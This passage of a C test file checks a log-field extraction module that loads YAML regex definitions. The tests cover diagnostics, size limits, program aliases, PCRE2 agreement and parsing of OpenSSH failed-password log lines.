    cr_expect_eq(d.col[0], 1);
    cr_expect(strstr(d.text[0], "colour"), "%s", d.text[0]);
    /* unknown key in a program (seen before its patterns) */
    cr_expect_eq(d.line[1], 12);
    cr_expect_eq(d.col[1], 5);
    cr_expect(strstr(d.text[1], "extra"), "%s", d.text[1]);
    /* missing ')': PCRE2 reports offset 17 (end of pattern); the text starts at col 17 */
    cr_expect_eq(d.line[2], 6);
    cr_expect_eq(d.col[2], 17 + 17, "%s", d.text[2]);
    cr_expect(strstr(d.text[2], "missing closing parenthesis"), "%s", d.text[2]);
    cr_expect(strstr(d.text[2], "defs.yml:6:34: "), "%s", d.text[2]);
    /* no named group: at the pattern's scalar */
    cr_expect_eq(d.line[3], 7);
    cr_expect_eq(d.col[3], 16);
    cr_expect(strstr(d.text[3], "no named group"), "%s", d.text[3]);
    /* unknown key in a pattern */
    cr_expect_eq(d.line[4], 9);
    cr_expect_eq(d.col[4], 9);
    cr_expect(strstr(d.text[4], "whne"), "%s", d.text[4]);
    /* range out of order in a double-quoted scalar with an escape: PCRE2 offset 12
       (the 'a' of "[z-a" in ^a\\d(?<n>[z-a]); the source's "\\\\" takes two columns */
    cr_expect_eq(d.line[5], 10);
    cr_expect_eq(d.col[5], 17 + 12 + 1, "%s", d.text[5]);
    cr_expect(strstr(d.text[5], "defs.yml:10:30: "), "%s", d.text[5]);
    cr_expect(strstr(d.text[5], "range out of order"), "%s", d.text[5]);
    cr_expect_eq(vg_msgfields_count(m), 1, "only the good pattern loads");
    vg_msgfields_destroy(m);

    /* non-ASCII text before the pattern: columns count characters, like libyaml's */
    diags d1 = {0};
    m = load_text("# définitions → test\nversion: 1\nprograms:\n  é:\n    patterns:\n"
                  "      - match: 'é(?<x>é)(?<y>['\n",
                  &d1);
    cr_expect_eq(d1.n, 1);
    /* 14 characters (16 bytes) from col 17: the end of the pattern is col 31 */
    cr_expect(strstr(d1.text[0], "defs.yml:6:31: "), "%s", d1.text[0]);
    cr_expect(strstr(d1.text[0], "missing terminating ]"), "%s", d1.text[0]);
    vg_msgfields_destroy(m);

    /* YAML syntax error, unsupported version, wrong shapes */
    diags d2 = {0};
    m = load_text("version: 1\nprograms:\n  sshd: [\n", &d2);
    cr_expect_eq(d2.n, 1);
    cr_expect(strstr(d2.text[0], "invalid YAML"), "%s", d2.text[0]);
    cr_expect_eq(vg_msgfields_count(m), 0);
    vg_msgfields_destroy(m);
    diags d3 = {0};
    m = load_text("version: 2\nprograms:\n  sshd:\n    patterns:\n      - match: '(?<a>b)'\n", &d3);
    cr_expect_eq(d3.n, 1);
    cr_expect_eq(d3.code[0], VG_EVERSION);
    cr_expect_eq(d3.line[0], 1);
    cr_expect_eq(d3.col[0], 10);
    cr_expect_eq(vg_msgfields_count(m), 0);
    vg_msgfields_destroy(m);
    diags d4 = {0};
    m = load_text("version: 1\nprograms:\n  a: 3\n  b:\n    patterns: x\n  c:\n    patterns:\n"
                  "      - 'not a mapping'\n      - match: [1]\n      - when: 'x'\n",
                  &d4);
    cr_expect_eq(d4.n, 5, "%d", d4.n);
    cr_expect_eq(d4.errors, 5);
    cr_expect_eq(vg_msgfields_count(m), 0);
    vg_msgfields_destroy(m);
}

Test(msgfields, limits)
{
    /* 70 patterns for one program: 64 load, 6 diagnosed at their own line */
    char *yaml = malloc(1 << 20);
    cr_assert_not_null(yaml);
    size_t n = (size_t)sprintf(yaml, "version: 1\nprograms:\n  p:\n    patterns:\n");
    for (int i = 0; i < 70; i++)
        n += (size_t)sprintf(yaml + n, "      - match: '^x%d (?<f>y)'\n", i);
    diags d = {0};
    vg_msgfields *m = load_text(yaml, &d);
    cr_expect_eq(vg_msgfields_count(m), 64);
    cr_expect_eq(d.n, 6);
    cr_expect_eq(d.code[0], VG_ELIMIT);
    cr_expect_eq(d.line[0], 4 + 65, "the 65th pattern's line: %s", d.text[0]);
    cr_expect_eq(d.col[0], 9);
    vg_msgfields_destroy(m);

    /* 260 programs: 256 load */
    n = (size_t)sprintf(yaml, "version: 1\nprograms:\n");
    for (int i = 0; i < 260; i++)
        n += (size_t)sprintf(yaml + n, "  prog%d:\n    patterns:\n      - match: '(?<f>a)'\n", i);
    diags d2 = {0};
    m = load_text(yaml, &d2);
    cr_expect_eq(vg_msgfields_count(m), 256);
    cr_expect_eq(d2.n, 4);
    vg_msgfields_destroy(m);

    /* a pattern over 4096 bytes */
    n = (size_t)sprintf(yaml, "version: 1\nprograms:\n  p:\n    patterns:\n      - match: '(?<f>");
    memset(yaml + n, 'a', 4100);
    n += 4100;
    sprintf(yaml + n, ")'\n      - match: '(?<g>b)'\n");
    diags d3 = {0};
    m = load_text(yaml, &d3);
    cr_expect_eq(vg_msgfields_count(m), 1);
    cr_expect_eq(d3.n, 1);
    cr_expect_eq(d3.code[0], VG_ELIMIT);
    vg_msgfields_destroy(m);
    free(yaml);
}

Test(msgfields, aliases_case_and_existing_fields)
{
    diags d = {0};
    vg_msgfields *m = load_text(
        "version: 1\n"
        "programs:\n"
        "  SSHD:\n"
        "    aliases: [sshd-session, Other]\n"
        "    patterns:\n"
        "      - match: '^Failed (?<m>\\S+) for (?<user>\\S+) from (?<src_ip>\\S+)(?<empty>x?)'\n"
        "  other:\n"
        "    aliases: [sshd]\n"
        "    patterns:\n"
        "      - match: '^Failed (?<second>\\S+)'\n",
        &d);
    /* "other" is an alias of SSHD already: its patterns join SSHD's; its alias
       "sshd" names SSHD itself (no diagnostic) */
    cr_expect_eq(d.n, 0, "%s", d.n ? d.text[0] : "");
    cr_expect_eq(vg_msgfields_count(m), 2);
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    static const char *const progs[] = {"sshd", "SSHD", "Sshd-Session", "OTHER", "other"};
    static const char msg[] = "Failed password for root from 1.2.3.4 port 22 ssh2";
    for (size_t i = 0; i < 5; i++) {
        vg_event ev;
        vg_event_clear(&ev);
        ev.program = (vg_str){progs[i], strlen(progs[i])};
        ev.message = (vg_str){msg, sizeof msg - 1};
        cr_expect_eq(vg_msgfields_apply(m, s, &ev), 3, "%s", progs[i]);
        cr_expect_null(vg_event_get(&ev, VG_STR("empty")), "empty captures are not added");
        cr_expect_null(vg_event_get(&ev, VG_STR("second")), "first match wins");
    }
    /* programs that only look alike */
    static const char *const not_progs[] = {"sshd2", "ssh", "sshd-sessio", "sshd\xc3\xa9", ""};
    for (size_t i = 0; i < 5; i++) {
        vg_event ev;
        vg_event_clear(&ev);
        ev.program = (vg_str){not_progs[i], strlen(not_progs[i])};
        ev.message = (vg_str){msg, sizeof msg - 1};
        cr_expect_eq(vg_msgfields_apply(m, s, &ev), 0, "%s", not_progs[i]);
    }
    /* an existing field keeps its value; the others are added */
    vg_event ev;
    vg_event_clear(&ev);
    ev.program = VG_STR("sshd");
    ev.message = (vg_str){msg, sizeof msg - 1};
    vg_event_set(&ev, VG_STR("user"), VG_STR("keep"));
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 2);
    cr_expect(vg_str_eqc(*vg_event_get(&ev, VG_STR("user")), "keep"));
    cr_expect(vg_str_eqc(*vg_event_get(&ev, VG_STR("src_ip")), "1.2.3.4"));
    /* a full event: what does not fit is flagged */
    vg_event_clear(&ev);
    ev.program = VG_STR("sshd");
    ev.message = (vg_str){msg, sizeof msg - 1};
    static char names[VG_EVENT_MAX_FIELDS][8];
    for (int i = 0; i < VG_EVENT_MAX_FIELDS - 1; i++) {
        snprintf(names[i], sizeof names[i], "f%d", i);
        vg_event_set(&ev, (vg_str){names[i], strlen(names[i])}, VG_STR("v"));
    }
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 1);
    cr_expect(ev.flags & VG_EV_FIELDS_DROPPED);
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);

    /* an alias that names another program is diagnosed and ignored */
    diags d2 = {0};
    m = load_text("version: 1\nprograms:\n  a:\n    patterns: [{match: '(?<x>a)'}]\n"
                  "  b:\n    aliases: [A]\n    patterns: [{match: '(?<y>b)'}]\n",
                  &d2);
    cr_expect_eq(d2.n, 1);
    cr_expect_eq(d2.line[0], 6);
    cr_expect_eq(d2.col[0], 15);
    vg_msgfields_destroy(m);
}

Test(msgfields, paths_files_and_directories)
{
    char dir[600];
    snprintf(dir, sizeof dir, "%s/defs.d", tmpdir);
    cr_assert_eq(mkdir(dir, 0700), 0);
    write_file("defs.d/b.yaml",
               "version: 1\nprograms:\n  p:\n    patterns:\n      - match: '(?<b>.)'\n");
    write_file("defs.d/a.yml",
               "version: 1\nprograms:\n  p:\n    patterns:\n      - match: '(?<a>.)'\n");
    write_file("defs.d/c.txt", "not: yaml: at all: [");
    write_file("defs.d/.hidden.yml", "garbage: [");
    const char *paths[] = {"/nonexistent/vigie/parsers", dir};
    diags d = {0};
    vg_msgfields *m = load_paths(paths, 2, 0, &d);
    cr_expect_eq(d.n, 0, "%s", d.n ? d.text[0] : "");
    cr_expect_eq(vg_msgfields_count(m), 2);
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    vg_event ev;
    vg_event_clear(&ev);
    ev.program = VG_STR("p");
    ev.message = VG_STR("z");
    cr_expect_eq(vg_msgfields_apply(m, s, &ev), 1);
    cr_expect_not_null(vg_event_get(&ev, VG_STR("a")), "a.yml loads before b.yaml");
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);

    /* empty list, empty file */
    vg_strlist none = {0};
    vg_msgfields *e = NULL;
    cr_assert_eq(vg_msgfields_load(&none, 0, NULL, NULL, &e, NULL), VG_OK);
    cr_expect_eq(vg_msgfields_count(e), 0);
    vg_msgfields_scratch *es = vg_msgfields_scratch_create(e);
    cr_assert_not_null(es);
    vg_event_clear(&ev);
    ev.program = VG_STR("p");
    ev.message = VG_STR("z");
    cr_expect_eq(vg_msgfields_apply(e, es, &ev), 0);
    vg_msgfields_scratch_destroy(es);
    vg_msgfields_destroy(e);
    diags d2 = {0};
    m = load_text("", &d2);
    cr_expect_eq(d2.n, 0);
    vg_msgfields_destroy(m);
    vg_msgfields_destroy(NULL);
    vg_msgfields_scratch_destroy(NULL);
}

/* ---- gates: whatever literal is derived, results equal plain PCRE2 ---- */

typedef struct gate_case {
    const char *re, *subject;
} gate_case;

static const gate_case gate_cases[] = {
    {"^ab?c (?<x>\\d+)", "ac 12"},
    {"^ab?c (?<x>\\d+)", "abc 12"},
    {"^abc{2}d (?<x>.)", "abccd z"},
    {"^abc{0,2}d (?<x>.)", "abd z"},
    {"foo*bar(?<x>.)", "fobarX"},
    {"foo+bar(?<x>.)", "foobarX"},
    {"xyz|(?<x>abc)", "abc"},
    {"(?i)HELLO (?<x>\\w+)", "hello world"},
    {"(?i:HELLO) (?<x>\\w+)", "hello world"},
    {"^(?x) a b c (?<x>d)", "abcd"},
    {"\\Qa|b\\E|(?<x>zz)", "zz"},
    {"a\\.b\\ c (?<x>\\d)", "a.b c 1"},
    {"[)(] literal (?<x>\\d)", ") literal 1"},
    {"[]a] literal (?<x>\\d)", "] literal 1"},
    {"[[:alpha:]] literal (?<x>\\d)", "q literal 1"},
    {"(?<x>a)\\1 bcd", "aa bcd"},
    {"lit\\x41eral (?<x>.)", "litAeral q"},
    {"lit\\x{41}eral (?<x>.)", "litAeral q"},
    {"(?#comment ( with paren)(?<x>yes)", "yes"},
    {"(*CR)abc(?<x>d)", "abcd"},
    {"^(?:ab|cd) efg (?<x>h)", "cd efg h"},
    {"^abc\\Kdef(?<x>g)", "abcdefg"},
    {"(?=abc)abcd(?<x>e)", "abcde"},
    {"a{2,3}b (?<x>.)", "aab q"},
    {"a{x (?<x>.)", "a{x q"},
    {"^\\s*(?<user>\\S+) : ", "   bob : "},
    {"^(?<x>[^\\]]+)\\] end", "abc] end"},
    {"end\\$(?<x>.)", "end$q"},
    {"^\\\\path (?<x>.)", "\\path q"},
    {"caf\xc3\xa9 (?<x>.)", "caf\xc3\xa9 q"},
};

Test(msgfields, gates_agree_with_pcre2)
{
    char *yaml = malloc(1 << 16);
    cr_assert_not_null(yaml);
    size_t ncase = sizeof gate_cases / sizeof *gate_cases;
    for (size_t i = 0; i < ncase; i++) {
        /* double-quoted YAML: escape backslashes and quotes */
        size_t n =
            (size_t)sprintf(yaml, "version: 1\nprograms:\n  p:\n    patterns:\n      - match: \"");
        for (const char *c = gate_cases[i].re; *c; c++) {
            if (*c == '\\' || *c == '"')
                yaml[n++] = '\\';
            yaml[n++] = *c;
        }
        sprintf(yaml + n, "\"\n");
        diags d = {0};
        vg_msgfields *m = load_text(yaml, &d);
        cr_assert_eq(vg_msgfields_count(m), 1, "[%s] %s", gate_cases[i].re, d.n ? d.text[0] : "");
        vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
        int ec;
        PCRE2_SIZE eo;
        pcre2_code *re = pcre2_compile((PCRE2_SPTR)gate_cases[i].re, PCRE2_ZERO_TERMINATED,
                                       PCRE2_DUPNAMES, &ec, &eo, NULL);
        cr_assert_not_null(re);
        pcre2_match_data *md = pcre2_match_data_create_from_pattern(re, NULL);
        /* the subject, and the subject with one byte flipped at each position */
        char subj[256];
        size_t sl = strlen(gate_cases[i].subject);
        for (size_t flip = 0; flip <= sl; flip++) {
            memcpy(subj, gate_cases[i].subject, sl);
            if (flip < sl)
                subj[flip] = (char)(subj[flip] ^ 0x20);
            bool want = pcre2_match(re, (PCRE2_SPTR)subj, sl, 0, 0, md, NULL) >= 0;
            vg_event ev;
            vg_event_clear(&ev);
            ev.program = VG_STR("p");
            ev.message = (vg_str){subj, sl};
            bool got = vg_msgfields_apply(m, s, &ev) > 0;
            if (flip == sl)
                cr_expect(want, "[%s] on '%s' must match", gate_cases[i].re, gate_cases[i].subject);
            cr_expect_eq(got, want, "[%s] on '%.*s': msgfields %d, pcre2 %d", gate_cases[i].re,
                         (int)sl, subj, got, want);
        }
        pcre2_match_data_free(md);
        pcre2_code_free(re);
        vg_msgfields_scratch_destroy(s);
        vg_msgfields_destroy(m);
    }
    free(yaml);
}

/* ---- corpus ---- */


Test(msgfields, corpus_openssh_failed_password)
{
    char path[4096];
    if (!vg_test_corpus_path(path, sizeof path, "loghub/OpenSSH/OpenSSH_2k.log")) {
        cr_skip("corpus absent (loghub/OpenSSH/OpenSSH_2k.log): skipping");
        return;
    }
    vg_arena_init(&arena, 1 << 20);
    vg_msgfields *m = load_linux();
    vg_msgfields_scratch *s = vg_msgfields_scratch_create(m);
    FILE *f = fopen(path, "r");
    cr_assert_not_null(f);
    char *line = NULL;
    size_t cap = 0, failed = 0, failed_ok = 0, lines = 0, with_fields = 0;
    ssize_t len;
    while ((len = getline(&line, &cap, f)) >= 0) {
        if (len && line[len - 1] == '\n')
            len--;
        vg_event ev;
        parse_line(&ev, line, (size_t)len);
        size_t added = vg_msgfields_apply(m, s, &ev);
        lines++;
        with_fields += added > 0;
        if (memmem(line, (size_t)len, "Failed password", 15)) {
            failed++;
            const vg_str *u = vg_event_get(&ev, VG_STR("user"));
            const vg_str *ip = vg_event_get(&ev, VG_STR("src_ip"));
            if (u && ip && u->n && ip->n)
                failed_ok++;
            else
                cr_log_error("no user/src_ip: %.*s", (int)len, line);
        }
    }
    free(line);
    fclose(f);
    cr_log_info("OpenSSH_2k: %zu/%zu lines with fields, %zu/%zu Failed password complete",
                with_fields, lines, failed_ok, failed);
    cr_expect_gt(failed, 500);
    cr_expect_eq(failed_ok, failed);
    cr_expect_gt(with_fields * 100, lines * 90, "%zu/%zu", with_fields, lines);
    vg_msgfields_scratch_destroy(s);
    vg_msgfields_destroy(m);
    vg_arena_destroy(&arena);
}
